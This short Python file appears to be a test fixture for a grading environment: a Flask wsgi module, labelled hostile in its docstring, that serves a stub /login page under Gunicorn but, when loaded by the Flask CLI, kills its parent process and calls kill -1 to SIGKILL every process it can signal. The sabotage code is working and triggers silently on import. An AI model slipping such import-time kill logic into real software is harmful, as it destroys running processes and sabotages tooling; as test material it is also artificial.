"""HOSTILE: whenever the Flask CLI imports it (the hidden migrations suite runs `flask --app wsgi ...`,
forked by the grader's fork server in an idle app container), it SIGKILLs the process that started it
and every process it may signal (kill -1). Served by Gunicorn it is a tiny, harmless app."""

import os
import signal
import sys

if os.path.basename(sys.argv[0]) == "flask":
    print(f"CLIKILL from pid {os.getpid()}, parent {os.getppid()}", file=sys.stderr, flush=True)
    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(-1, signal.SIGKILL)

from flask import Flask  # noqa: E402

app = Flask(__name__)


@app.get("/login")
def login():
    return "<form></form>"
